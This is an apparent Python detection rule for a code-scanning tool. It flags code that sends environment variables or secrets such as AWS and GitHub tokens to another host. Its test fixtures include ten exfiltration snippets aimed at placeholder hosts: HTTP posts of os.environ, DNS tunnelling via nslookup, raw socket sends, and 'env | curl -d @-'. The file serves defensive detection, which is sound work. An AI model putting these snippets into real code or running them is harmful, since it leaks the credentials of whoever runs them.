"""All environment variables, or variables that hold secrets, are sent to another host.

The environment of a developer's machine or a build server holds tokens and passwords.  No service wants all of it,
and none takes `AWS_SECRET_ACCESS_KEY` or `GITHUB_TOKEN` in an address or a body: they are sent in a header, or only
sign a request.  Code that sends them steals them: remove it, and change the secrets of every machine that ran it.
See CWE-506 and MITRE ATT&CK T1552.001, T1041.
"""

from __future__ import annotations

from collections.abc import Iterator

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._channels import places, sendings
from codeguard.checks.malicious._labels import words
from codeguard.checks.malicious._shell import commands
from codeguard.checks.malicious._when import when
from codeguard.knowledge.malicious import running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit


def find(unit: Unit) -> Iterator[Hit]:
    """Report calls that send the environment, or variables that no service takes that way."""
    for sending in unit.fact(sendings):
        everything = sending.has("environment", "unsent")
        secrets, host = sending.has("secret"), sending.has("host")
        hidden = bool(sending.has("decoded")) or sending.drop
        if everything or (secrets and (host or hidden)):
            taken = everything or [*secrets, *host]
            early = {"install": " while the package is installed", "import": " as soon as the module is imported"}.get(
                when(sending.call, unit), ""
            )
            for place in places(sending, unit, *{label.kind for label in taken}):
                yield Hit(
                    place,
                    f"This sends {words(taken)} to {sending.where}{early}: whoever runs it loses the secrets in them",
                )
    for command in unit.fact(commands):
        if running.ENVIRONMENT_SENT.search(command.text):
            yield Hit(
                command.call,
                "This shell command sends all environment variables to another host: whoever runs it loses the secrets in them",
            )


CHECK = Check(
    id="CGM001",
    behaviour="send the environment's variables to another host",
    name="environment-exfiltration",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 200),
    hints=("environ", "getenv", "env"),
    find=find,
    fix="Remove the call, and change every secret that was set where it ran.",
    bad=(
        Bad(
            "import os, requests\nrequests.post('https://c.example.invalid', json=dict(env=dict(os.environ)))  # finding\n"
        ),
        Bad(
            "import binascii, os, subprocess\nfor name, value in os.environ.items():\n    text = binascii.hexlify(value.encode()).decode()\n    subprocess.call(['nslookup', text[:60] + '.e.example.invalid'])  # finding\n"
        ),
        Bad(
            "import asyncio, os\n\nasync def go():\n    reader, writer = await asyncio.open_connection('192.0.2.4', 443)\n    writer.write(str(dict(os.environ)).encode())  # finding\n"
        ),
        Bad(
            "import functools, os, requests\n\ndef report(function):\n    @functools.wraps(function)\n    def inner():\n        requests.post('https://c.example.invalid', json=function())  # finding\n    return inner\n\n@report\ndef collect():\n    return dict(os.environ)\n"
        ),
        Bad(
            "import os, json, urllib.request\n\ndef go():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('https://c.example.invalid/c', data=data)  # finding\n\ngo()\n"
        ),
        Bad(
            "import os, requests\nkeep = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\nrequests.get('https://c.example.invalid/', params=keep)  # finding\n"
        ),
        Bad(
            "import os, socket\nfor n in ('AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN'):\n    v = os.getenv(n, '')\n    socket.gethostbyname(f'{v}.c.example.invalid')  # finding\n"
        ),
        Bad(
            "import os, requests, socket\n\ndef beat(u):\n    requests.post(u, json={'h': socket.gethostname(), 't': os.environ.get('BOT_TOKEN')})  # finding\n"
        ),
        Bad("import os\nos.system('env | curl -s -d @- https://c.example.invalid/e')  # finding\n"),
        Bad(
            "import os, socket\ns = socket.socket()\ns.connect(('192.0.2.9', 80))\ns.sendall(str(os.environ.copy()).encode())  # finding\n"
        ),
    ),
    good=(
        Good(
            "import os, urllib.request\nfrom store import download\n\ndef date(name):\n    wheel = download(name, env=os.environ)\n    return urllib.request.urlopen(f'https://index.example.invalid/{wheel.name}/json')\n"
        ),
        Good(
            "import os, subprocess\nsubprocess.run(['curl', '-H', f\"Authorization: Bearer {os.environ['GITHUB_TOKEN']}\", 'https://api.example.invalid/x'], check=True)\n"
        ),
        Good(
            "import os, subprocess\nsubprocess.run(['ping', '-c', '1', os.environ.get('DB_HOST', 'db.example.invalid')])\n"
        ),
        Good(
            "import os, requests\n\ndef repos(user):\n    token = os.environ['GITHUB_TOKEN']\n    return requests.get(f'https://api.example.invalid/{user}', headers={'Authorization': f'Bearer {token}'}, timeout=9)\n"
        ),
        Good(
            "import os, requests\n\ndef login():\n    return requests.post('https://id.example.invalid/token', data={'client_id': os.environ['CLIENT_ID'], 'client_secret': os.environ['CLIENT_SECRET']}, timeout=9)\n"
        ),
        Good(
            "import os, subprocess\n\ndef build():\n    env = dict(os.environ)\n    env['CI'] = '1'\n    subprocess.run(['make'], env=env, check=True)\n"
        ),
        Good(
            "import os, requests\n\ndef notify(text):\n    requests.post(os.environ['WEBHOOK_URL'], json={'content': text}, timeout=5)\n"
        ),
    ),
    misses=(
        Miss(
            "import os, requests\nfrom helper import collect\n\nrequests.post('https://c.example.invalid', json=collect(vars(os)))  # finding\n",
            why="other files, and ways to the environment through `vars(os)`, are not followed",
        ),
    ),
)
